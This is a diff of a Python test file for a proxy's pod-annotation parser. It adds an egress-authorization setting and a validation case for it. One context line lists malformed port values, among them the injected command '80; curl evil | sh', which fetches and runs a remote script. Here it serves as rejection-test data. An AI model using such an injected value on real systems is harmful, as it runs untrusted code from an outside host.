@@ -22,6 +22,7 @@ def test_everything_that_can_be_asked_for() -> None:
         ingress_policy="a,b",
         ingress_hosts="orders,x.shop.svc.cluster.local",
         egress="true",
+        egress_authorization="keep",
         exclude_outbound_ports="5432",
         exclude_outbound_cidrs="10.0.0.0/8,fd00::/8",
         identity="orders",
@@ -33,7 +34,7 @@ def test_everything_that_can_be_asked_for() -> None:
     )
     assert isinstance(settings, PodSettings)
     assert settings.ingress == Ingress((80, 8443), (), ("a", "b"), ("orders.shop.svc", "x.shop.svc"), "h2c")
-    assert settings.egress == Egress((5432,), ("10.0.0.0/8", "fd00::/8"))
+    assert settings.egress == Egress((5432,), ("10.0.0.0/8", "fd00::/8"), "keep")
     assert (settings.identity, settings.provider) == ("orders", "local")
     assert (settings.log_level, settings.log_access) == ("error", True)
     assert settings.redirect is Redirect.IPTABLES
@@ -91,6 +92,7 @@ PORTS = ["80; curl evil | sh", "0", "65536", "-1", "８０", "", "80,", "80, 443
         ({**BASE, "redirect": "none", "exclude_inbound_ports": "1"}, 'aegisproxy.io/redirect: "iptables" beside it'),
         ({**BASE, "proxy_cpu_request": "2", "proxy_cpu_limit": "1"}, 'got "2", wanted at most the limit, 1'),
         ({**BASE, "ingress_hosts": "localhost"}, 'ingress.hosts]: got "localhost"'),
+        ({**BASE, "egress_authorization": "keep"}, 'wanted aegisproxy.io/egress: "true" beside'),
         ({**BASE, "ingress_protocol": "H2C"}, 'ingress.protocol]: got "H2C", wanted auto or http1 or h2c'),
         ({"egress": "true", "identity": "a", "ingress_protocol": "h2c"}, 'wanted aegisproxy.io/ingress: "true" beside'),
         ({**BASE, "egres": "true"}, "the unknown annotation aegisproxy.io/egres, wanted a known one: the nearest is"),
